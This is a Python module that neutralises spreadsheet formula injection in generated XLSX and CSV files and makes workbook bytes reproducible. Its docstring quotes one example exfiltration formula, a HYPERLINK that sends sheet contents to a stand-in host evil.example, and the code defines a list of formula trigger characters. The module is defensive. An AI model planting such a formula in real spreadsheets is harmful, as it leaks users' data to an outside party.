"""Spreadsheets that keep people's text as text (formula injection, CWE-1236).

A workbook or CSV that ChildFirst writes holds text people typed: an audit's name, an
auditor's evidence, a team's name. Opened in Excel or LibreOffice, text beginning with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) can run as a
formula: ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` sends the sheet's
contents away. So every spreadsheet goes out through this module:

- :func:`workbook_bytes` saves an openpyxl workbook after making every text cell a
  text cell (openpyxl turns any string starting ``=`` into a formula) and marking text
  that starts with one of those characters "quote prefixed", so that editing the cell
  keeps it text. ChildFirst writes no formulas of its own; numbers stay numbers.
- :func:`workbook_bytes` with ``saved_at`` gives the same bytes each time for the same
  workbook: openpyxl stamps the file with the moment it is saved (the document's
  created and modified times, and each part's time in the zip), so a file that must
  match another run of itself (the KPI return, from the web and from the command) is
  stamped with a time of its own instead.
- :func:`csv_writer` writes CSV rows with such text prefixed by an apostrophe, as
  OWASP advises; plain numbers written as text (``-3``, ``+2.5``) are left alone.

No library does this: openpyxl and :mod:`csv` write what they are given.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.xml.constants import ARC_CORE
from openpyxl.xml.functions import tostring

#: What a spreadsheet program may read as the start of a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")


def risky(value: Any) -> bool:
    """Text a spreadsheet program might run: it starts with a trigger and is not simply
    a number."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)


def workbook_bytes(book: Workbook, saved_at: dt.datetime | None = None) -> bytes:
    """``book`` as .xlsx bytes, every string stored as text, never as a formula; with
    ``saved_at`` (no earlier than 1980, as zip files need), stamped with that time rather
    than the moment of saving, so the same workbook always gives the same bytes."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    if cell.data_type == "f":
                        cell.data_type = "s"
                    if risky(cell.value):
                        cell.quotePrefix = True
    out = io.BytesIO()
    if saved_at is not None:
        book.properties.created = saved_at
    book.save(out)
    if saved_at is None:
        return out.getvalue()
    # openpyxl's save sets the modified time to now, and the zip's parts get the clock's
    # time: the document properties are written again, and every part copied with ours.
    book.properties.modified = saved_at
    stamp = saved_at.timetuple()[:6]
    fixed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(out.getvalue())) as saved,
        zipfile.ZipFile(fixed, "w", zipfile.ZIP_DEFLATED) as copy,
    ):
        for part in saved.infolist():
            data = tostring(book.properties.to_tree()) if part.filename == ARC_CORE else None
            info = zipfile.ZipInfo(part.filename, date_time=stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = part.external_attr
            copy.writestr(info, data if data is not None else saved.read(part))
    return fixed.getvalue()


def csv_safe(value: Any) -> Any:
    """One CSV value: risky text gets a leading apostrophe; anything else as it is."""
    return "'" + value if risky(value) else value


class _SafeWriter:
    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: io.StringIO) -> _SafeWriter:
    """A :func:`csv.writer` (``\\n`` line ends) that neutralises risky text."""
    return _SafeWriter(out)
